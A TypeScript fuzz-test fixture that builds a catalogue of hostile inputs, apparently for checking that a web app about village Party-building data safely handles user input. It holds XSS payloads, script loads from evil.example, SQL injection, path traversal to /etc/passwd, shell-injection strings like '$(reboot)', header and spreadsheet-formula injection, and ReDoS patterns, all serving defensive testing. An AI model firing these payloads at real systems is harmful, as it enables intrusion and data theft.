import { type Arbitrary, array, constantFrom, integer, oneof, sample, string } from 'fast-check';

/** What somebody could type or put into a link, and to which family it belongs. */
export interface Hostile {
  readonly family: string;
  readonly value: string;
}

/** What a payload runs if it runs: it leaves a trace that is looked for. */
const RUN = 'window.__ran=1';
/** As long as the requirement says: so many letters. */
const LONG = 100_000;

const TAGS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RUN}></SCRIPT>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror=&#119;indow.__ran=1>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img srcset=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<style>@import '//evil.example/x.css';*{display:none}</style>`,
  `<div style="background:url(//evil.example/x.png)">x</div>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<x onclick=${RUN} tabindex=1 autofocus onfocus=${RUN}>x`,
  `<dialog open onclose=${RUN}>x</dialog>`,
  `<custom-element onpointerenter=${RUN}>x</custom-element>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${RUN}>`,
  `<mark class="found" onmouseover=${RUN}>x</mark>`,
] as const;

/** What closes the place in a page where a value could stand. */
const BREAKS = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</h2>',
  '</script>',
  '-->',
  '``',
  '");//',
] as const;

const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\u0000script:${RUN}`,
  ` javascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript\u003a${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></script><svg onload=${RUN}>*/`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:${RUN}`,
  `filesystem:http://evil.example/`,
  `view-source:javascript:${RUN}`,
  `file:///etc/passwd`,
  `//evil.example/`,
  `\\\\evil.example\\`,
  `/\\evil.example/`,
  `https://evil.example/`,
  `https:evil.example`,
  `http://[::1]:0/`,
  `http://user:pass@evil.example/`,
  `ws://evil.example/`,
  `about:blank`,
  `chrome://version`,
] as const;

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  'isPrototypeOf',
  'toJSON',
  'then',
  '__defineGetter__',
  '__lookupSetter__',
  'length',
  'name',
  'caller',
  'undefined',
  'null',
  'NaN',
  'Infinity',
  'true',
  'document',
  'location',
  'innerHTML',
  'cookie',
] as const;

const OF_NAMES = [
  (name: string) => name,
  (name: string) => `${name}[polluted]`,
  (name: string) => `${name}.polluted=1`,
  (name: string) => `counties[${name}]`,
  (name: string) => `hengdong,${name}`,
  (name: string) => `{"${name}":{"polluted":1}}`,
] as const;

/** Signs that change the order or the shape of what stands around them, or cannot be seen. */
const SIGNS = [
  ['\u202e', 'right-to-left override'],
  ['\u202d', 'left-to-right override'],
  ['\u202b', 'right-to-left embedding'],
  ['\u2067', 'right-to-left isolate'],
  ['\u2066', 'left-to-right isolate'],
  ['\u2069', 'end of isolate'],
  ['\u202c', 'end of override'],
  ['\u200f', 'right-to-left mark'],
  ['\u061c', 'Arabic letter mark'],
  ['\u200b', 'space of no width'],
  ['\u200d', 'joiner'],
  ['\u200c', 'non-joiner'],
  ['\u2060', 'word joiner'],
  ['\ufeff', 'byte order mark'],
  ['\u00ad', 'soft hyphen'],
  ['\u0000', 'NUL'],
  ['\u0007', 'bell'],
  ['\u001b', 'escape'],
  ['\u007f', 'delete'],
  ['\u0085', 'next line'],
  ['\u2028', 'line separator'],
  ['\u2029', 'paragraph separator'],
  ['\r\n', 'line break'],
  ['\u3000', 'wide space'],
  ['\ufffd', 'replacement'],
  ['\uffff', 'no character'],
  ['\u{10ffff}', 'last code point'],
  ['\u{e0041}', 'tag letter'],
  ['\ufe0f', 'variation selector'],
  ['\u0301', 'accent'],
  ['\u0489', 'enclosing sign'],
  ['\u0e49', 'Thai tone'],
  ['\ua002', 'letter of the index: stop'],
  ['\ua003', 'letter of the index: role'],
  ['\u2423', 'letter of the index: blank'],
  ['\ud800', 'high half'],
  ['\udfff', 'low half'],
  ['\udc00\ud800', 'halves the wrong way round'],
] as const;

const TEMPLATES = [
  '{{7*7}}',
  '{{constructor.constructor("window.__ran=1")()}}',
  `\${window.__ran=1}`,
  `\`\${window.__ran=1}\``,
  '#{7*7}',
  '<%= 7*7 %>',
  '{%raw%}',
  `[[\${7*7}]]`,
  "' OR '1'='1",
  "'; DROP TABLE counties;--",
  '" UNION SELECT * FROM figures--',
  '1;window.__ran=1',
  ');window.__ran=1;//',
  '\\");window.__ran=1;//',
  '*)(uid=*))(|(uid=*',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00../index.html',
  '|cat /etc/passwd',
  '$(reboot)',
  'X-Header: a\r\nSet-Cookie: b=c',
  '%0d%0aSet-Cookie:a=b',
  '=HYPERLINK("//evil.example","x")',
  '=cmd|calc!A0',
  '@SUM(1+1)',
  '#:~:text=党',
  ':~:text=a,b',
  '#',
  '##',
  '?',
  '&q=&q=&counties=',
  ';',
  ',,,,',
  '，、，、',
  '*',
  ':not(*)',
  '"] , [id="',
  '\\',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  '&lt;script&gt;',
  '&#60;script&#62;',
  '&#x3c;img src=x onerror=window.__ran=1&#x3e;',
  '＜script＞window.__ran=1＜/script＞',
  '‹script›',
  '+ADw-script+AD4-window.__ran=1+ADw-/script+AD4-',
] as const;

const NUMBERS = [
  '9'.repeat(400),
  `-${'9'.repeat(30)}`,
  '1e400',
  '-0',
  '0x7fffffffffffffff',
  '2147483648',
  '9007199254740993',
  `0.${'0'.repeat(300)}1`,
  '一'.repeat(300),
  '亿'.repeat(300),
  '十百千万亿兆',
  '１２３４５６７８９０'.repeat(20),
  '½⅓㎡㊿㍿',
  '٣٤٥',
  '१२३',
  '𝟙𝟚𝟛',
  '%'.repeat(50),
  '.'.repeat(300),
] as const;

const LETTERS = [
  'hеngdong',
  'уоngdе',
  'ｈｅｎｇｄｏｎｇ',
  '𝒉𝒆𝒏𝒈𝒅𝒐𝒏𝒈',
  'HENGDONG\u0130',
  'ﬃﬄﬆ',
  '\ufdfa'.repeat(50),
  '㍿'.repeat(50),
  '👨‍👩‍👧‍👦',
  '🏳️‍🌈🏴‍☠️',
  '👩🏽‍🚀'.repeat(30),
  '🇨🇳🇨',
  '️⃣1️⃣',
  '𠮷野家',
  '﨎﨏塚',
  '丂丄丅',
  '衡\u{e0100}东\u{e0101}',
  'שלום',
  'مرحبا 党建 مرحبا',
  'ประชุม',
  '한국어',
  'e\u0301'.repeat(40),
  'Å\u030aÅ\u212b',
] as const;

/** What a reader of pinyin, initials, pieces or words with a letter wrong could lose itself in. */
const LOOSE = [
  'xianxianxianxianxianxianxianxianxianxian',
  'lianlianlianlianlianlianlianlianlianlianlianlian',
  'a'.repeat(60),
  'ng'.repeat(30),
  "xi'an'xi'an'xi'an",
  'zhuangshuangchuang'.repeat(5),
  'u:ü v u: ü v',
  'jcjbjtbjcjbjtbjcjbjtb',
  'bcdfghjklmnpqrstwxz'.repeat(4),
  'a b c d e f g h i j k l m n o p q r s t u v w x y z',
  '党 '.repeat(40),
  '党 建 五 化 书 记 工 资 村 干',
  '的了和是就都而及与着',
  '党建+'.repeat(30),
  '書記工資'.repeat(20),
  '误工补帖误工补帖误工补帖',
  '魑魅魍魉'.repeat(15),
  'secretary '.repeat(30),
  'the of and to a in',
  '不不不不不不不不不不',
] as const;

const PATTERNS = [
  '(a+)+$',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  '(.*)*x',
  '([a-zA-Z]+)*$',
  '(?=.*a)(?=.*b)',
  '\\p{L}',
  '[^]*',
  '(?<x>a)\\k<x>',
] as const;

const PERCENTS = [
  '%',
  '%%',
  '%z',
  '%zz',
  '%2',
  '%C0%80',
  '%E0%80%AF',
  '%F8%88%80%80%80',
  '%FF%FE',
  '%ED%A0%80',
  '%u003c',
  '%00',
];

function encodedDeep(value: string, levels: number): string {
  return levels === 0 ? value : encodedDeep(encodeURIComponent(value), levels - 1);
}

function longOf(unit: string): string {
  return unit.repeat(Math.ceil(LONG / unit.length)).slice(0, LONG);
}

/** As long as 100,000 letters: each of another kind, for which reading can be slow for another reason. */
const FLOODS = [
  ['Han letters', longOf('村')],
  ['letters', longOf('a')],
  ['digits', longOf('7')],
  ['brackets', longOf('(')],
  ['nested brackets', '('.repeat(LONG / 2) + ')'.repeat(LONG / 2)],
  ['quotation marks', longOf('"')],
  ['signs of markup', longOf('<')],
  ['tags', longOf('<b>"\'&')],
  ['scripts', longOf(`<script>${RUN}</script>`)],
  ['blanks', longOf(' ')],
  ['blanks and an end', `${' '.repeat(LONG - 1)}x`],
  ['words', longOf('五化 ')],
  ['commas', longOf(',')],
  ['ids', longOf('hengdong,')],
  ['unknown ids', longOf('nowhere,')],
  ['marks on one letter', longOf('a\u0301\u0316')],
  ['marks alone', longOf('\u0316\u0301')],
  ['signs of no width', longOf('\u200b')],
  ['overrides', longOf('\u202e')],
  ['halves', longOf('\ud800')],
  ['ligatures', longOf('\ufdfa')],
  ['pinyin', longOf('xian')],
  ['traditional letters', longOf('書')],
  ['what a pattern stumbles on', `${'a'.repeat(LONG - 1)}!`],
  ['percent signs', longOf('%25')],
] as const;

const family = (name: string, values: readonly string[]): Hostile[] => values.map((value) => ({ family: name, value }));

/** All hostile values, each once: known ways of attack by context, and what is merely odd. */
export const HOSTILE: readonly Hostile[] = once([
  ...family('tags', TAGS),
  ...family(
    'tags that break out',
    BREAKS.flatMap((end) => TAGS.filter((_, i) => i % 4 === 0).map((tag) => end + tag)),
  ),
  ...family(
    'tags in words',
    TAGS.filter((_, i) => i % 3 === 0).map((tag) => `党建${tag}村书记`),
  ),
  ...family('schemes', SCHEMES),
  ...family(
    'names of objects',
    NAMES.flatMap((name) => OF_NAMES.map((of) => of(name))),
  ),
  ...family(
    'signs',
    SIGNS.flatMap(([sign]) => [sign, `党${sign}建`, `hengdong${sign}`, sign.repeat(60)]),
  ),
  ...family('templates', TEMPLATES),
  ...family('numbers', NUMBERS),
  ...family('letters', LETTERS),
  ...family('loosening', LOOSE),
  ...family('patterns', PATTERNS),
  ...family('percent signs', PERCENTS),
  ...family(
    'deep encoding',
    [1, 2, 3, 10].flatMap((levels) => [encodedDeep(`<img src=x onerror=${RUN}>`, levels), encodedDeep('党', levels)]),
  ),
  ...family(
    '100 kB',
    FLOODS.map(([, value]) => value),
  ),
]);

function once(values: readonly Hostile[]): Hostile[] {
  return [...new Map(values.map((one) => [one.value, one])).values()];
}

/** Values made at random out of all that is odd above, the same ones for the same seed. */
export function randomValues(seed: number, count: number): Hostile[] {
  const odd: Arbitrary<string> = oneof(
    string({ unit: 'binary', maxLength: 20 }),
    // Code units on their own make halves of letters.
    array(integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((units) => String.fromCharCode(...units)),
    constantFrom<string>(...TAGS, ...SCHEMES, ...TEMPLATES, ...LOOSE, ...SIGNS.map(([sign]) => sign)),
    constantFrom('党建', 'hengdong', '村', '书记', '3053元/月', ',', ' ', '&', '='),
  );
  const mixed = array(odd, { minLength: 1, maxLength: 6 }).map((parts) => parts.join(''));
  return once(family(`random, seed ${seed}`, sample(mixed, { seed, numRuns: count })));
}
